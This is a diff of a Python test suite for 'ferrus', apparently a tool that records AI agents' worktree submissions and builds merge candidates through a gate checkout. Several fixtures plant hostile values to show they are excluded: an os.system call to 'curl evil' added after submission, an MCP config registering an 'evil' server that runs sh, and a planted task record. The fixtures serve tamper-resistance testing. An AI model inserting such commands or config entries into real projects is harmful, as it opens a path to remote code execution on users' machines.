@@ -208,7 +208,7 @@ def test_a_half_made_worktree_is_made_again(repo, wt_dir):
     ferrus.create_task_worktree(repo, path, "ferrus/t-1", start)
     # As if `git worktree add` were killed before its checkout: git's "initializing"
     # lock is still there, the index and the files are not.
-    admin = ferrus._worktree_git_dir(path)
+    admin = ferrus.worktree_admin_dir(ferrus.common_git_dir(repo), path)
     with open(os.path.join(admin, "locked"), "w") as handle:
         handle.write("initializing")
     os.unlink(os.path.join(admin, "index"))
@@ -360,7 +360,7 @@ def test_target_head_names_the_branch_commit_or_none(repo):
     assert ferrus.target_head(repo, "missing") is None
 
 
-# -- integrating a task: commit, rebase or merge, conflicts --------------------------------
+# -- a submission recorded as a commit; the merge gate's candidate ------------------------
 
 EXCLUDE = ferrus.diff_exclusions()
 
@@ -375,9 +375,8 @@ def files_at(root, commit):
     return sorted(git(root, "ls-tree", "-r", "--name-only", commit).stdout.split())
 
 
-def in_progress(worktree):
-    admin = ferrus._worktree_git_dir(worktree)
-    return ferrus._operation_in(admin)
+def show(root, commit, path):
+    return git(root, "show", "%s:%s" % (commit, path)).stdout
 
 
 @pytest.fixture
@@ -388,81 +387,158 @@ def task(repo, wt_dir):
     return path
 
 
-def test_the_tasks_changes_are_committed_without_ferrus_files(repo, task):
+def base_of(repo):
+    return git(repo, "merge-base", "main", "ferrus/t-1").stdout.strip()
+
+
+def submit(repo, task, summary="Did it."):
+    """The task's worktree recorded as its submission (what the reviewer reads)."""
+    return ferrus.snapshot_worktree(ferrus.task_checkout(repo, task), base_of(repo), EXCLUDE,
+                                    summary)
+
+
+def gate(repo, wt_dir):
+    return ferrus.gate_checkout(repo, wt_dir, rev(repo, "main"))
+
+
+def candidate(repo, task, wt_dir, message="Task t-1", history="squash"):
+    submitted = submit(repo, task)
+    return ferrus.build_candidate(gate(repo, wt_dir), "main", rev(repo, "main"),
+                                  [(submitted, message)], history)
+
+
+def test_a_submission_holds_the_worktrees_files_but_never_ferrus_files(repo, task):
     start = rev(repo)
     write(task, "feature.py", "def feature():\n    return 1\n")
     write(task, "app.py", "print('hello, task')\n")
     for rel in (".mcp.json", ".codex/config.toml", ".claude/settings.local.json",
-                ".agents/skills/ferrus/SKILL.md", ".ferrus/STATE.json"):
+                ".agents/skills/ferrus/SKILL.md"):
         write(task, rel, "registration\n")
     git(task, "add", ".mcp.json")                     # an agent staged one by hand
-    result = ferrus.prepare_integration(task, "main", "rebase", "Task t-1: add a feature",
-                                        EXCLUDE)
-    assert result.status == "ready" and result.committed and result.target_head == start
-    assert result.head == rev(task) and rev(task) != start
-    assert files_at(task, result.head) == [".gitignore", "app.py", "feature.py"]
-    assert git(task, "log", "-1", "--format=%s").stdout.strip() == "Task t-1: add a feature"
-    # ferrus's files are still in the worktree, uncommitted; no note is left behind.
+    git(task, "add", "-f", ".agents/skills/ferrus/SKILL.md")
+    git(task, "commit", "-qm", "the agent's own commit of ferrus's files")
+    write(task, ".ferrus/tasks/t-evil/task.json", '{"status": "queued"}\n')
+    git(task, "add", "-f", ".ferrus")
+    git(task, "commit", "-qm", "a task record planted in the branch")
+    commit = submit(repo, task, "Added feature().")
+    assert files_at(task, commit) == [".gitignore", "app.py", "feature.py"]
+    assert git(repo, "rev-parse", commit + "^").stdout.strip() == start
+    assert git(repo, "log", "-1", "--format=%B", commit).stdout.strip() == "Added feature()."
+    # The worktree, its index and its branch are as the agent left them.
     assert os.path.exists(os.path.join(task, ".mcp.json"))
-    assert not os.path.exists(os.path.join(ferrus._worktree_git_dir(task),
-                                           ferrus.INTEGRATION_NOTE))
+    assert "feature.py" in git(task, "status", "--porcelain").stdout
+    assert rev(task) != start and rev(task) != commit
 
 
-def test_a_task_that_changed_nothing_is_empty(repo, task):
+def test_a_submission_keeps_an_excluded_tracked_file_as_the_base_has_it(repo, task):
+    write(repo, ".mcp.json", '{"mcpServers": {}}\n')
+    git(repo, "add", ".mcp.json")
+    git(repo, "commit", "-qm", "the project keeps .mcp.json")
+    git(task, "merge", "-q", "main")
+    write(task, ".mcp.json", '{"mcpServers": {"evil": {"command": "sh"}}}\n')
+    write(task, "x.py", "x = 1\n")
+    commit = ferrus.snapshot_worktree(ferrus.task_checkout(repo, task), rev(repo), EXCLUDE,
+                                      "s")
+    assert show(repo, commit, ".mcp.json") == '{"mcpServers": {}}\n'
+    assert "x.py" in files_at(repo, commit)
+
+
+def test_the_candidate_is_one_commit_on_the_target_with_the_submitted_tree(repo, task, wt_dir):
+    start = rev(repo)
+    write(task, "feature.py", "x = 1\n")
+    built = candidate(repo, task, wt_dir, "Task t-1: add a feature\n\nbody\n")
+    assert built.status == "ready" and built.target_head == start
+    assert built.commits == [built.head]
+    assert git(repo, "rev-parse", built.head + "^").stdout.strip() == start
+    assert files_at(repo, built.head) == [".gitignore", "app.py", "feature.py"]
+    assert git(repo, "log", "-1", "--format=%s|%an", built.head).stdout.strip() == (
+        "Task t-1: add a feature|Test User")
+    assert rev(repo, "main") == start                     # nothing moved yet
+
+
+def test_a_late_edit_after_the_submission_is_not_in_the_candidate(repo, task, wt_dir):
+    write(task, "feature.py", "reviewed = 1\n")
+    submitted = submit(repo, task)
+    write(task, "feature.py", "import os; os.system('curl evil')\n")    # after submit
+    write(task, "late.py", "late = 1\n")
+    built = ferrus.build_candidate(gate(repo, wt_dir), "main", rev(repo),
+                                   [(submitted, "t-1")])
+    assert show(repo, built.head, "feature.py") == "reviewed = 1\n"
+    assert "late.py" not in files_at(repo, built.head)
+
+
+def test_a_task_that_changed_nothing_is_empty(repo, task, wt_dir):
     write(task, ".mcp.json", "registration only\n")
-    result = ferrus.prepare_integration(task, "main", "rebase", "nothing", EXCLUDE)
-    assert (result.status, result.committed, result.head) == ("empty", False, rev(repo))
+    built = candidate(repo, task, wt_dir)
+    assert (built.status, built.head, built.commits) == ("empty", rev(repo), [])
 
 
-def test_a_task_whose_change_the_target_already_has_is_empty(repo, task):
+def test_a_task_whose_change_the_target_already_has_is_empty(repo, task, wt_dir):
     write(task, "same.txt", "same\n")
-    commit_all(task, "task")
+    submitted = submit(repo, task)
     write(repo, "same.txt", "same\n")
     commit_all(repo, "the same change on main")
-    result = ferrus.prepare_integration(task, "main", "rebase", "unused", EXCLUDE)
-    assert result.status == "empty" and result.head == rev(repo)
+    built = ferrus.build_candidate(gate(repo, wt_dir), "main", rev(repo), [(submitted, "x")])
+    assert built.status == "empty" and built.head == rev(repo)
 
 
-def test_rebase_onto_a_moved_target_then_fast_forward_the_checked_out_target(repo, task):
+def test_the_work_is_applied_onto_a_moved_target(repo, task, wt_dir):
     write(task, "feature.py", "x = 1\n")
     commit_all(task, "agent's own commit")          # an executor may commit by itself
     write(task, "more.py", "y = 2\n")               # and leave the rest uncommitted
+    submitted = submit(repo, task)
     write(repo, "other.py", "z = 3\n")
     moved = commit_all(repo, "someone else's work")
-    result = ferrus.prepare_integration(task, "main", "rebase", "Task t-1", EXCLUDE)
-    assert result.status == "ready" and result.target_head == moved
-    assert git(task, "rev-list", "--count", moved + "..HEAD").stdout.strip() == "2"
-    assert git(task, "merge-base", "--is-ancestor", moved, "HEAD", check=False).returncode == 0
-    assert git(task, "status", "--porcelain").stdout == ""
-    done = ferrus.fast_forward_target(repo, "main", moved, result.head)
-    assert (done.status, done.head, done.checkout) == ("done", result.head,
+    built = ferrus.build_candidate(gate(repo, wt_dir), "main", moved, [(submitted, "Task t-1")])
+    assert built.status == "ready" and built.target_head == moved
+    assert git(repo, "rev-parse", built.head + "^").stdout.strip() == moved
+    assert files_at(repo, built.head) == [".gitignore", "app.py", "feature.py", "more.py",
+                                          "other.py"]
+    done = ferrus.fast_forward_target(repo, "main", moved, built.head)
+    assert (done.status, done.head, done.checkout) == ("done", built.head,
                                                        os.path.realpath(repo))
-    assert rev(repo) == result.head
-    assert sorted(os.listdir(repo)) == [".git", ".gitignore", "app.py", "feature.py",
-                                        "more.py", "other.py"]
-    assert git(repo, "status", "--porcelain").stdout == ""
+    assert rev(repo) == built.head and git(repo, "status", "--porcelain").stdout == ""
     # Asked again (a retry after a crash): already done.
-    assert ferrus.fast_forward_target(repo, "main", moved, result.head).status == "done"
+    assert ferrus.fast_forward_target(repo, "main", moved, built.head).status == "done"
 
 
-def test_merge_mode_merges_the_target_into_the_tasks_branch(repo, task):
+def test_merge_history_adds_the_tasks_commit_and_a_merge(repo, task, wt_dir):
     write(task, "feature.py", "x = 1\n")
+    submitted = submit(repo, task)
+    start = base_of(repo)
     write(repo, "other.py", "z = 3\n")
     moved = commit_all(repo, "someone else's work")
-    result = ferrus.prepare_integration(task, "main", "merge", "Task t-1", EXCLUDE)
-    assert result.status == "ready" and result.committed
-    parents = git(task, "rev-list", "--parents", "-n", "1", "HEAD").stdout.split()[1:]
-    assert len(parents) == 2 and parents[1] == moved
-    assert "Merge branch 'main'" in git(task, "log", "-1", "--format=%s").stdout
-    assert ferrus.fast_forward_target(repo, "main", moved, result.head).status == "done"
-    assert set(files_at(repo, "HEAD")) >= {"feature.py", "other.py"}
+    built = ferrus.build_candidate(gate(repo, wt_dir), "main", moved,
+                                   [(submitted, "Task t-1")], "merge")
+    own, merged = built.commits
+    assert built.head == merged
+    assert git(repo, "rev-parse", own + "^").stdout.strip() == start
+    assert git(repo, "rev-list", "--parents", "-n", "1", merged).stdout.split()[1:] == [
+        moved, own]
+    assert set(files_at(repo, merged)) >= {"feature.py", "other.py"}
+    # Without target changes: just the task's commit.
+    git(repo, "reset", "-q", "--hard", start)
+    again = ferrus.build_candidate(gate(repo, wt_dir), "main", start,
+                                   [(submitted, "Task t-1")], "merge")
+    assert len(again.commits) == 1 and again.head == again.commits[0]
 
 
-def test_merge_mode_without_target_changes_fast_forwards_nothing_extra(repo, task):
-    write(task, "feature.py", "x = 1\n")
-    result = ferrus.prepare_integration(task, "main", "merge", "Task t-1", EXCLUDE)
-    assert result.status == "ready"
-    assert git(task, "rev-list", "--count", rev(repo) + "..HEAD").stdout.strip() == "1"
+def test_linear_history_makes_a_commit_per_step(repo, task, wt_dir):
+    start = rev(repo)
+    write(task, "a.txt", "1\n")
+    first = submit(repo, task, "first")
+    write(task, "a.txt", "2\n")
+    second_tree = git(repo, "rev-parse", submit(repo, task, "second") + "^{tree}").stdout.strip()
+    chained = ferrus.commit_tree(repo, second_tree, [first], "second")
+    built = ferrus.build_candidate(gate(repo, wt_dir), "main", start,
+                                   [(first, "one"), (chained, "two")], "linear")
+    assert len(built.commits) == 2
+    assert git(repo, "log", "--format=%s", start + ".." + built.head).stdout.split() == [
+        "two", "one"]
+    assert show(repo, built.commits[0], "a.txt") == "1\n"
+    assert show(repo, built.head, "a.txt") == "2\n"
+    folded = ferrus.rechain(repo, start, [(second_tree, "one\ntwo")])
+    assert git(repo, "rev-parse", folded + "^").stdout.strip() == start
 
 
 def edit_the_same_line(repo, task):
@@ -471,97 +547,114 @@ def edit_the_same_line(repo, task):
     return commit_all(repo, "main changes the greeting")
 
 
-@pytest.mark.parametrize("mode", ["rebase", "merge"])
-def test_a_conflict_is_aborted_and_described_for_the_executor(repo, task, mode):
-    target = edit_the_same_line(repo, task)
+def test_a_conflict_is_handed_over_as_a_commit_with_markers(repo, task, wt_dir):
     write(task, "unrelated.py", "fine = True\n")
-    result = ferrus.prepare_integration(task, "main", mode, "Task t-1", EXCLUDE)
-    assert result.status == "conflict" and result.conflicts == ["app.py"]
-    assert result.target_head == target and result.committed
-    text = result.text
+    write(task, "app.py", "print('hello from the task')\n")
+    submitted = submit(repo, task)
+    write(repo, "app.py", "print('hello from main')\n")
+    target = commit_all(repo, "main changes the greeting")
+    the_gate = gate(repo, wt_dir)
+    built = ferrus.build_candidate(the_gate, "main", target, [(submitted, "Task t-1")])
+    assert built.status == "conflict" and built.conflicts == ["app.py"]
+    assert built.target_head == target and built.commits == []
+    text = built.text
     assert "conflicts in 1 file: app.py" in text and "app.py, line 1" in text
     task_side = text.index("the task's side:")
     main_side = text.index("main's side (at %s)" % target[:12])
-    assert text.index("hello from the task") > task_side
+    assert task_side < text.index("hello from the task") < main_side
     assert text.index("hello from main") > main_side
-    assert (text.index("hello from the task") < main_side) == (task_side < main_side)
-    # The worktree is back on the task's own commit, clean, with nothing in progress.
-    assert result.head == rev(task) == rev(task, "ferrus/t-1")
-    assert git(task, "status", "--porcelain").stdout == ""
-    assert in_progress(task) is None
-    assert open(os.path.join(task, "app.py")).read() == "print('hello from the task')\n"
-    assert rev(repo) == target                              # the target is untouched
+    # The hand-over commit: on the target, the task's work in it, markers left.
+    assert git(repo, "rev-parse", built.head + "^").stdout.strip() == target
+    handed = show(repo, built.head, "app.py")
+    assert "<<<<<<<" in handed and "hello from the task" in handed and "hello from main" in handed
+    assert show(repo, built.head, "unrelated.py") == "fine = True\n"
+    assert ferrus.markers_left(repo, built.head, ["app.py", "unrelated.py", "gone.txt"]) == [
+        "app.py"]
+    # The gate is clean again; the target is untouched.
+    assert git(the_gate.work_tree, "status", "--porcelain").stdout == ""
+    assert rev(repo) == target
+    # The executor's worktree goes to the hand-over commit, back on its own branch even
+    # when the executor had switched it elsewhere.
+    git(task, "checkout", "-q", "--detach")
+    ferrus.move_task_worktree(ferrus.task_checkout(repo, task), "ferrus/t-1", built.head)
+    assert rev(task) == built.head == rev(repo, "ferrus/t-1")
+    assert git(task, "rev-parse", "--abbrev-ref", "HEAD").stdout.strip() == "ferrus/t-1"
+    assert rev(repo, "main") == target
 
 
-def test_two_tasks_on_the_same_lines_the_second_conflicts(repo, wt_dir):
+def test_two_tasks_on_the_same_lines_the_second_conflicts_then_merges(repo, wt_dir):
     start = rev(repo)
     first, second = os.path.join(wt_dir, "t-1"), os.path.join(wt_dir, "t-2")
     ferrus.create_task_worktree(repo, first, "ferrus/t-1", start)
     ferrus.create_task_worktree(repo, second, "ferrus/t-2", start)
     write(first, "app.py", "print('one')\n")
     write(second, "app.py", "print('two')\n")
-    one = ferrus.prepare_integration(first, "main", "rebase", "t-1", EXCLUDE)
-    assert ferrus.fast_forward_target(repo, "main", one.target_head, one.head).status == "done"
-    two = ferrus.prepare_integration(second, "main", "rebase", "t-2", EXCLUDE)
+    one = ferrus.build_candidate(gate(repo, wt_dir), "main", start, [(
+        ferrus.snapshot_worktree(ferrus.task_checkout(repo, first), start, EXCLUDE, "1"), "t-1")])
+    assert ferrus.fast_forward_target(repo, "main", start, one.head).status == "done"
+    two_checkout = ferrus.task_checkout(repo, second)
+    two = ferrus.build_candidate(gate(repo, wt_dir), "main", one.head, [(
+        ferrus.snapshot_worktree(two_checkout, start, EXCLUDE, "2"), "t-2")])
     assert two.status == "conflict" and two.conflicts == ["app.py"]
-    assert two.target_head == one.head
-    # The executor resolves it (merging main, keeping both), and it integrates.
-    assert git(second, "merge", "-q", "main", check=False).returncode != 0
-    write(second, "app.py", "print('one')\nprint('two')\n")
-    git(second, "add", "app.py")
-    git(second, "commit", "-qm", "resolve")
-    again = ferrus.prepare_integration(second, "main", "rebase", "t-2", EXCLUDE)
+    ferrus.move_task_worktree(two_checkout, "ferrus/t-2", two.head)
+    write(second, "app.py", "print('one')\nprint('two')\n")          # resolved by editing
+    resolved = ferrus.snapshot_worktree(two_checkout, one.head, EXCLUDE, "resolved")
+    assert ferrus.markers_left(repo, resolved, ["app.py"]) == []
+    again = ferrus.build_candidate(gate(repo, wt_dir), "main", one.head, [(resolved, "t-2")])
     assert again.status == "ready"
-    assert ferrus.fast_forward_target(repo, "main", again.target_head, again.head).status == (
-        "done")
+    assert ferrus.fast_forward_target(repo, "main", one.head, again.head).status == "done"
     assert open(os.path.join(repo, "app.py")).read() == "print('one')\nprint('two')\n"
+    assert git(repo, "rev-list", "--count", start + "..main").stdout.strip() == "2"
 
 
-def test_a_file_deleted_on_one_side_is_named(repo, task):
+def test_a_file_deleted_on_one_side_is_named(repo, task, wt_dir):
     os.unlink(os.path.join(task, "app.py"))
+    submitted = submit(repo, task)
     write(repo, "app.py", "print('changed on main')\n")
-    commit_all(repo, "main edits app.py")
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
-    assert result.status == "conflict" and result.conflicts == ["app.py"]
-    assert "app.py: the task deleted it, main (at " in result.text
+    moved = commit_all(repo, "main edits app.py")
+    built = ferrus.build_candidate(gate(repo, wt_dir), "main", moved, [(submitted, "t-1")])
+    assert built.status == "conflict" and built.conflicts == ["app.py"]
+    assert "app.py: the task deleted it, main (at " in built.text
 
 
-def test_a_long_conflict_is_cut_to_a_few_kib(repo, task):
+def test_a_long_conflict_is_cut_to_a_few_kib(repo, task, wt_dir):
     for index in range(40):
         write(task, "f%02d.txt" % index, "task\n" * 30)
+    submitted = submit(repo, task)
+    for index in range(40):
         write(repo, "f%02d.txt" % index, "main\n" * 30)
-    commit_all(repo, "main writes the same files")
-    result = ferrus.prepare_integration(task, "main", "merge", "t-1", EXCLUDE)
-    assert result.status == "conflict" and len(result.conflicts) == 40
-    assert len(result.text) <= ferrus.CONFLICT_TEXT_CHARS + 200
-    assert "more lines]" in result.text and "left out" in result.text
+    moved = commit_all(repo, "main writes the same files")
+    built = ferrus.build_candidate(gate(repo, wt_dir), "main", moved, [(submitted, "t-1")])
+    assert built.status == "conflict" and len(built.conflicts) == 40
+    assert len(built.text) <= ferrus.CONFLICT_TEXT_CHARS + 200
+    assert "more lines]" in built.text and "left out" in built.text
 
 
-def test_a_conflict_in_a_minified_file_shows_its_lines_cut(repo, task):
+def test_a_conflict_in_a_minified_file_shows_its_lines_cut(repo, task, wt_dir):
     write(task, "bundle.min.js", "var task=1;" * 2000 + "\n")
+    submitted = submit(repo, task)
     write(repo, "bundle.min.js", "var main=2;" * 2000 + "\n")
-    commit_all(repo, "main builds the bundle")
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
-    assert result.conflicts == ["bundle.min.js"] and len(result.text) < 1000
-    assert "var task=1;" in result.text and "var main=2;" in result.text
+    moved = commit_all(repo, "main builds the bundle")
+    built = ferrus.build_candidate(gate(repo, wt_dir), "main", moved, [(submitted, "t-1")])
+    assert built.conflicts == ["bundle.min.js"] and len(built.text) < 1000
+    assert "var task=1;" in built.text and "var main=2;" in built.text
 
 
-def test_a_hook_that_refuses_the_commit_leaves_the_work_in_place(repo, task):
-    hooks = os.path.join(repo, ".git", "hooks")
-    write(hooks, "pre-commit", "#!/bin/sh\necho 'lint: feature.py is not formatted' >&2\n"
-          "exit 1\n")
-    os.chmod(os.path.join(hooks, "pre-commit"), 0o755)
-    write(task, "feature.py", "x=1\n")
-    before = rev(task)
-    with pytest.raises(ferrus.IntegrationRefused) as caught:
-        ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
-    assert "feature.py is not formatted" in caught.value.message
-    assert "hook" in caught.value.hint
-    assert rev(task) == before and open(os.path.join(task, "feature.py")).read() == "x=1\n"
-    assert in_progress(task) is None
+def test_no_hook_runs_when_the_candidate_is_built_or_merged(repo, task, wt_dir, tmp_path):
+    ran = str(tmp_path / "hook-ran")
+    for name in ("pre-commit", "commit-msg", "post-commit", "post-checkout", "post-merge",
+                 "post-rewrite", "reference-transaction"):
+        write(os.path.join(repo, ".git", "hooks"), name, "#!/bin/sh\necho %s >> %s\n"
+              % (name, ran))
+        os.chmod(os.path.join(repo, ".git", "hooks", name), 0o755)
+    write(task, "feature.py", "x = 1\n")
+    built = candidate(repo, task, wt_dir)
+    assert ferrus.fast_forward_target(repo, "main", built.target_head, built.head).status == (
+        "done")
+    assert not os.path.exists(ran)
 
 
-def test_no_identity_is_an_error_for_the_user_not_the_executor(repo, task, monkeypatch,
+def test_no_identity_is_an_error_for_the_user_not_the_executor(repo, task, wt_dir, monkeypatch,
                                                                tmp_path):
     for name in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME",
                  "GIT_COMMITTER_EMAIL", "EMAIL"):
@@ -572,116 +665,47 @@ def test_no_identity_is_an_error_for_the_user_not_the_executor(repo, task, monke
     git(repo, "config", "--unset", "user.email")
     git(repo, "config", "user.useConfigOnly", "true")
     write(task, "feature.py", "x = 1\n")
+    submitted = submit(repo, task)                # ferrus's own record needs no identity
     with pytest.raises(ferrus.GitError) as caught:
-        ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
-    assert not isinstance(caught.value, ferrus.IntegrationRefused)
+        ferrus.build_candidate(gate(repo, wt_dir), "main", rev(repo), [(submitted, "t-1")])
     assert "user.email" in caught.value.hint
 
 
-def test_an_unknown_target_or_mode_is_a_clear_error(repo, task):
+# -- the gate's own checkout --------------------------------------------------------------
+
+def test_the_gate_is_cleaned_of_ignored_files_before_each_use(repo, task, wt_dir):
+    the_gate = gate(repo, wt_dir)
+    ferrus.reset_gate(the_gate, rev(repo))
+    write(the_gate.work_tree, "build/cache.txt", "left by an earlier check\n")
+    write(the_gate.work_tree, "app.py", "changed by an earlier check\n")
+    ferrus.reset_gate(the_gate, rev(repo))
+    assert not os.path.exists(os.path.join(the_gate.work_tree, "build"))
+    assert open(os.path.join(the_gate.work_tree, "app.py")).read() == "print('hello')\n"
+
+
+def test_a_tampered_gate_is_made_again(repo, wt_dir):
+    the_gate = gate(repo, wt_dir)
+    write(the_gate.work_tree, ".git", "gitdir: %s\n" % os.path.join(repo, ".git"))
+    again = gate(repo, wt_dir)
+    assert again.git_dir == the_gate.git_dir or os.path.isdir(again.git_dir)
+    assert ferrus.task_checkout(repo, again.work_tree).work_tree == again.work_tree
+    assert git(repo, "status", "--porcelain").stdout == ""
+
+
+def test_a_folder_in_the_way_of_the_gate_is_refused(repo, wt_dir):
+    write(os.path.join(wt_dir, ferrus.GATE_FOLDER), "mine.txt", "not ferrus's\n")
     with pytest.raises(ferrus.GitError) as caught:
-        ferrus.prepare_integration(task, "nope", "rebase", "t-1", EXCLUDE)
-    assert "no branch nope" in caught.value.message
-    with pytest.raises(ferrus.FerrusError) as caught:
-        ferrus.prepare_integration(task, "main", "squash", "t-1", EXCLUDE)
-    assert "rebase" in caught.value.hint
-
-
-# -- integrating again after a crash --------------------------------------------------------
-
-def dead_pid():
-    proc = subprocess.Popen([sys.executable, "-c", "pass"])
-    proc.wait()
-    return proc.pid
-
-
-def leave_note(task, pid, start=None):
-    with open(os.path.join(ferrus._worktree_git_dir(task), ferrus.INTEGRATION_NOTE), "w") as f:
-        f.write('{"pid": %d, "start": %s}' % (pid, "null" if start is None else '"%s"' % start))
-
-
-def test_a_rebase_left_by_a_killed_integration_is_undone_first(repo, task):
-    edit_the_same_line(repo, task)
-    task_commit = commit_all(task, "task")
-    assert git(task, "rebase", "main", check=False).returncode != 0   # killed right here
-    leave_note(task, dead_pid())
-    with open(os.path.join(ferrus._worktree_git_dir(task), "index.lock"), "w"):
-        pass                                              # the killed git's lock
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
-    assert result.status == "conflict" and result.head == task_commit
-    assert in_progress(task) is None and git(task, "status", "--porcelain").stdout == ""
-
-
-@pytest.mark.skipif(not hasattr(os, "killpg"), reason="needs process groups")
-def test_sigkill_in_the_middle_of_a_rebase_then_integrate_again(repo, task, tmp_path):
-    flag, ready = str(tmp_path / "stall-once"), str(tmp_path / "stalled")
-    open(flag, "w").close()
-    hook = os.path.join(repo, ".git", "hooks", "prepare-commit-msg")
-    # Runs for each commit the rebase replays: the first time, it stalls there.
-    write(os.path.dirname(hook), "prepare-commit-msg",
-          '#!/bin/sh\nif [ -d "$(git rev-parse --git-dir)/rebase-merge" ] && [ -f "%s" ]; '
-          'then rm -f "%s"; : > "%s"; sleep 60; fi\n' % (flag, flag, ready))
-    os.chmod(hook, 0o755)
-    write(task, "feature.py", "x = 1\n")
-    write(repo, "other.py", "z = 3\n")
-    target = commit_all(repo, "main moves")
-    runner = subprocess.Popen(
-        [sys.executable, "-c", "import sys; sys.path.insert(0, %r); import ferrus; "
-         "ferrus.prepare_integration(%r, 'main', 'rebase', 't-1', ferrus.diff_exclusions())"
-         % (os.path.dirname(os.path.abspath(ferrus.__file__)), task)],
-        start_new_session=True)
-    try:
-        deadline = time.monotonic() + 60
-        while not os.path.exists(ready) and runner.poll() is None:
-            assert time.monotonic() < deadline, "the rebase never reached the hook"
-            time.sleep(0.02)
-        assert runner.poll() is None
-    finally:
-        os.killpg(runner.pid, signal.SIGKILL)
-        runner.wait()
-    assert in_progress(task) == "rebase"                      # killed half way
-    assert rev(repo) == target
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
-    assert result.status == "ready" and result.target_head == target
-    assert in_progress(task) is None and git(task, "status", "--porcelain").stdout == ""
-    assert files_at(task, "HEAD") == [".gitignore", "app.py", "feature.py", "other.py"]
-    assert ferrus.fast_forward_target(repo, "main", target, result.head).status == "done"
-
-
-def test_a_rebase_ferrus_did_not_start_is_left_alone(repo, task):
-    edit_the_same_line(repo, task)
-    commit_all(task, "task")
-    assert git(task, "rebase", "main", check=False).returncode != 0
-    with pytest.raises(ferrus.GitError) as caught:
-        ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
-    assert "ferrus did not start it" in caught.value.message
-    assert "git rebase --abort" in caught.value.hint
-    assert in_progress(task) == "rebase"
-
-
-def test_an_integration_another_live_process_runs_is_refused(repo, task):
-    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
-    try:
-        leave_note(task, sleeper.pid, ferrus.process_start(sleeper.pid))
-        write(task, "feature.py", "x = 1\n")
-        with pytest.raises(ferrus.GitError) as caught:
-            ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
-        assert "pid %d" % sleeper.pid in caught.value.message
-        # A reused pid (another start time) is not that process.
-        leave_note(task, sleeper.pid, "another start")
-        assert ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE).status == (
-            "ready")
-    finally:
-        sleeper.kill()
-        sleeper.wait()
+        gate(repo, wt_dir)
+    assert "in the way" in caught.value.message
+    assert os.path.exists(os.path.join(wt_dir, ferrus.GATE_FOLDER, "mine.txt"))
 
 
 # -- moving the target ------------------------------------------------------------------
 
-def test_a_target_checked_out_nowhere_moves_by_compare_and_swap(repo, task):
+def test_a_target_checked_out_nowhere_moves_by_compare_and_swap(repo, task, wt_dir):
     git(repo, "checkout", "-q", "--detach")               # main is checked out nowhere
     write(task, "feature.py", "x = 1\n")
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
+    result = candidate(repo, task, wt_dir)
     done = ferrus.fast_forward_target(repo, "main", result.target_head, result.head)
     assert (done.status, done.checkout) == ("done", None)
     assert rev(repo, "main") == result.head
@@ -690,9 +714,9 @@ def test_a_target_checked_out_nowhere_moves_by_compare_and_swap(repo, task):
     assert rev(repo) == result.target_head
 
 
-def test_a_target_that_moved_meanwhile_is_not_touched(repo, task):
+def test_a_target_that_moved_meanwhile_is_not_touched(repo, task, wt_dir):
     write(task, "feature.py", "x = 1\n")
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
+    result = candidate(repo, task, wt_dir)
     write(repo, "late.py", "late = 1\n")
     late = commit_all(repo, "committed during the checks")
     moved = ferrus.fast_forward_target(repo, "main", result.target_head, result.head)
@@ -702,10 +726,10 @@ def test_a_target_that_moved_meanwhile_is_not_touched(repo, task):
     assert (moved.status, moved.head) == ("moved", late) and rev(repo, "main") == late
 
 
-def test_a_dirty_checkout_of_the_target_waits_and_keeps_the_users_change(repo, task):
+def test_a_dirty_checkout_of_the_target_waits_and_keeps_the_users_change(repo, task, wt_dir):
     write(task, "app.py", "print('task')\n")
     write(task, "new.py", "new = 1\n")
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
+    result = candidate(repo, task, wt_dir)
     old = result.target_head
     write(repo, "app.py", "print('my own edit')\n")      # tracked, changed by the task too
     write(repo, "new.py", "mine\n")                      # untracked where the task adds one
@@ -721,18 +745,18 @@ def test_a_dirty_checkout_of_the_target_waits_and_keeps_the_users_change(repo, t
     assert ferrus.fast_forward_target(repo, "main", old, result.head).status == "done"
 
 
-def test_a_file_where_the_task_makes_a_folder_waits_too(repo, task):
+def test_a_file_where_the_task_makes_a_folder_waits_too(repo, task, wt_dir):
     write(task, "docs/guide.md", "# Guide\n")
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
+    result = candidate(repo, task, wt_dir)
     write(repo, "docs", "my notes, in a file called docs\n")
     dirty = ferrus.fast_forward_target(repo, "main", result.target_head, result.head)
     assert (dirty.status, dirty.files) == ("dirty", ["docs"])
     assert open(os.path.join(repo, "docs")).read() == "my notes, in a file called docs\n"
 
 
-def test_other_uncommitted_changes_in_the_checkout_are_carried_along(repo, task):
+def test_other_uncommitted_changes_in_the_checkout_are_carried_along(repo, task, wt_dir):
     write(task, "feature.py", "x = 1\n")
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
+    result = candidate(repo, task, wt_dir)
     write(repo, "app.py", "print('my own edit')\n")
     write(repo, "notes.txt", "mine\n")
     git(repo, "add", "notes.txt")
@@ -743,10 +767,10 @@ def test_other_uncommitted_changes_in_the_checkout_are_carried_along(repo, task)
         " M app.py", "A  notes.txt"]
 
 
-def test_an_ignored_file_where_the_task_writes_one_is_not_overwritten(repo, task):
+def test_an_ignored_file_where_the_task_writes_one_is_not_overwritten(repo, task, wt_dir):
     write(task, ".gitignore", ".ferrus/\n")
     write(task, "settings.env", "from the task\n")
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
+    result = candidate(repo, task, wt_dir)
     write(repo, ".gitignore", ".ferrus/\n*.env\n")       # the user ignores it locally
     write(repo, "settings.env", "SECRET=mine\n")
     git(repo, "update-index", "--assume-unchanged", ".gitignore")
